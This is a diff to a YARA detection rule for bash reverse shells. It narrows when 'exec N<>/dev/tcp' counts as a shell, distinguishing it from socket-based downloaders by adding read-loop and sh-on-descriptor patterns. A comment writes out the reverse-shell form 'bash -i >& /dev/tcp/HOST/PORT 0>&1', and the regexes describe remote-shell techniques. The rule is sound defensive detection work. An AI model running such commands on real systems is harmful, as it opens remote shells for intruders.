@@ -7,11 +7,16 @@ rule backdoor_reverse_shell_bash
         confidence = "high"
         category = "backdoor"
         attack = "T1059.004"
+        scope = "exec"
     strings:
-        // bash -i >& /dev/tcp/HOST/PORT 0>&1, sh -i with the redirect, exec N<>/dev/tcp downloaders
+        // bash -i >& /dev/tcp/HOST/PORT 0>&1, sh -i with the redirect
         $interactive = /\b(ba|z|k)?sh\s+-i\s*[0-9]?>&?\s*\/dev\/(tcp|udp)\/[A-Za-z0-9.\-]+\/[0-9]{1,5}/
-        $exec_fd = /\bexec\s+[0-9]{1,2}<>\s*\/dev\/(tcp|udp)\/[A-Za-z0-9.\-]+\/[0-9]{1,5}/
         $redirect_both = /\/dev\/tcp\/[A-Za-z0-9.\-]+\/[0-9]{1,5}\s+0>&1/
+        // exec N<>/dev/tcp alone is also how curl-less downloaders open a socket (execution.dev-tcp-download);
+        // it is a shell only when the descriptor feeds commands: a read loop running each line, or sh on it
+        $exec_fd = /\bexec\s+[0-9]{1,2}<>\s*\/dev\/(tcp|udp)\/[A-Za-z0-9.\-]+\/[0-9]{1,5}/
+        $fd_loop = /while\s+read\s+(-r\s+)?\w+[^\n]{0,40}\bdo\s+\$\{?\w+\}?\s+[0-9]?[<>]&\s*[0-9]/
+        $fd_shell = /\b(ba)?sh\s+(-i\s+)?[0-9]?<&\s*[0-9]{1,2}\s+[0-9]?>&\s*[0-9]{1,2}/
     condition:
-        any of them
+        $interactive or $redirect_both or ($exec_fd and ($fd_loop or $fd_shell))
 }
